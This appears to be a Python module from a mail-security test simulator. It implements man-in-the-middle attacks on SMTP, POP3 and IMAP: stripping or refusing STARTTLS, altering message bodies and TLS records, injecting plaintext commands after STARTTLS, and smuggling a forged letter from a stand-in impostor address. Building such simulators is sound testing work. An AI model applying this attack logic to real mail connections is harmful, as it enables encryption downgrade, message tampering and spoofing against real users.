"""What the hands on a wire do to lines and records: hide TLS, change a word, add commands or a letter."""

import re
from typing import Final

from simulator.actors.attacks import Attack
from simulator.actors.middle import Hands
from simulator.actors.turning import change_in

_STRIPPED_WORDS: Final = re.compile(rb" (?:STARTTLS|LOGINDISABLED)(?=[ \]\r])", re.IGNORECASE)
# Octets: a record that holds a letter is larger than those around it, and it grows on its way.
_LETTER_AT_LEAST: Final = {"smtp": 240, "pop3": 400, "imap": 500}
_APPLICATION_DATA: Final = 0x17

FORGED_FROM: Final = "eve@impostor.example"
_FORGED: Final = (
    "From: The office <{forger}>\r\nTo: <{to}>\r\nSubject: Forged\r\n\r\nNobody at the office wrote this.\r\n"
)


class Once:
    """What is done on one connection only, whichever comes first."""

    __slots__ = ("_done",)

    def __init__(self) -> None:
        self._done = False

    def take(self) -> bool:
        """True the first time."""
        done, self._done = self._done, True
        return not done


def hands_of(attack: Attack, once: Once) -> Hands:
    """Hands for one connection; `once` is shared by all. An impostor needs none: nothing passes it."""
    match attack.kind:
        case "strip":
            return _Refusing() if attack.answer == "refuse" else _Hiding()
        case "alter":
            return _Altering(attack.word.encode(), attack.into.encode())
        case "inject":
            return _Injecting(attack.to, once)
        case "smuggle":
            return _Smuggling(attack.to, once)
    return Hands()


def _verb(protocol: str, line: bytes) -> bytes:
    words = line.upper().split()
    if protocol == "imap":
        words = words[1:]
    return words[0] if words else b""


class _Hiding(Hands):
    """The server's offer of TLS does not arrive: in EHLO, CAPA and IMAP's CAPABILITY."""

    def reply(self, protocol: str, verb: bytes, line: bytes) -> bytes:
        match protocol:
            case "smtp" if verb == b"EHLO" and line[4:].upper() == b"STARTTLS\r\n":
                # The last line must stay; real middleboxes write over the word like this.
                return b"" if line[3:4] == b"-" else b"250 XXXXXXXX\r\n"
            case "pop3" if verb == b"CAPA" and line.upper() == b"STLS\r\n":
                return b""
            case "imap" if b"CAPABILITY" in line.upper():
                return _STRIPPED_WORDS.sub(b"", line)
        return line


class _Refusing(Hands):
    """TLS is refused for the moment. The server hears NOOP instead, so that it answers all the same."""

    def __init__(self) -> None:
        self._asked = b""  # the tag in IMAP

    def command(self, protocol: str, line: bytes) -> bytes:
        if _verb(protocol, line) not in (b"STARTTLS", b"STLS"):
            return line
        self._asked = line.split()[0]
        return (self._asked + b" " if protocol == "imap" else b"") + b"NOOP\r\n"

    def reply(self, protocol: str, verb: bytes, line: bytes) -> bytes:
        if not self._asked or (protocol == "imap" and not line.startswith(self._asked + b" ")):
            return line
        tag, self._asked = self._asked, b""
        match protocol:
            case "smtp":
                return b"454 4.7.0 TLS not available due to temporary reason\r\n"  # RFC 3207 §4
            case "pop3":
                return b"-ERR TLS is not available now\r\n"
        return tag + b" NO TLS is not available now\r\n"


class _Altering(Hands):
    """One word of each letter's body becomes another; of a covered letter, one octet."""

    def __init__(self, word: bytes, into: bytes) -> None:
        self._word = word
        self._into = into
        self._done = False

    def letter(self) -> None:
        self._done = False

    def body_line(self, line: bytes) -> bytes:
        change = None if self._done else change_in(line, self._word, self._into)
        if change is None:
            return line
        self._done = True
        return change.octets

    def record(self, protocol: str, from_client: bool, octets: bytes) -> bytes:
        carries_mail = from_client == (protocol == "smtp")
        if not carries_mail or octets[0] != _APPLICATION_DATA or len(octets) < _LETTER_AT_LEAST[protocol]:
            return octets
        at = len(octets) // 2
        return octets[:at] + bytes((octets[at] ^ 0x01,)) + octets[at + 1 :]


class _Injecting(Hands):
    """Commands in clear, right behind the one that agrees on TLS, in the same packet (RFC 3207 §6).

    Once is enough. Over SMTP it is a whole letter, over POP3 and IMAP a command whose answer nobody awaits.
    """

    def __init__(self, to: str, once: Once) -> None:
        self._to = to
        self._once = once

    def command(self, protocol: str, line: bytes) -> bytes:
        if _verb(protocol, line) not in (b"STARTTLS", b"STLS") or not self._once.take():
            return line
        match protocol:
            case "smtp":
                return line + b"EHLO impostor.example\r\n" + _transaction(self._to) + b".\r\n"
            case "pop3":
                return line + b"USER eve\r\n"
        return line + b"eve1 NOOP\r\n"


class _Smuggling(Hands):
    """A second letter inside the first, behind a dot between bare line ends.

    A server that takes it makes five answers where the client awaits one; the others are kept from it.
    """

    _ANSWERS: Final = 4  # to MAIL, RCPT, DATA and the second letter

    def __init__(self, to: str, once: Once) -> None:
        self._to = to
        self._once = once
        self._swallow = 0
        self._awaits_verdict = False

    def before_end(self) -> bytes:
        if not self._once.take():
            return b""
        self._awaits_verdict = True
        return b"\n.\n" + _transaction(self._to)

    def reply(self, protocol: str, verb: bytes, line: bytes) -> bytes:
        if self._awaits_verdict:
            self._awaits_verdict = False
            self._swallow = self._ANSWERS if line.startswith(b"250") else 0
        elif self._swallow:
            self._swallow -= line[3:4] == b" "
            return b""
        return line


def _transaction(to: str) -> bytes:
    letter = _FORGED.format(forger=FORGED_FROM, to=to)
    return f"MAIL FROM:<{FORGED_FROM}>\r\nRCPT TO:<{to}>\r\nDATA\r\n{letter}".encode()
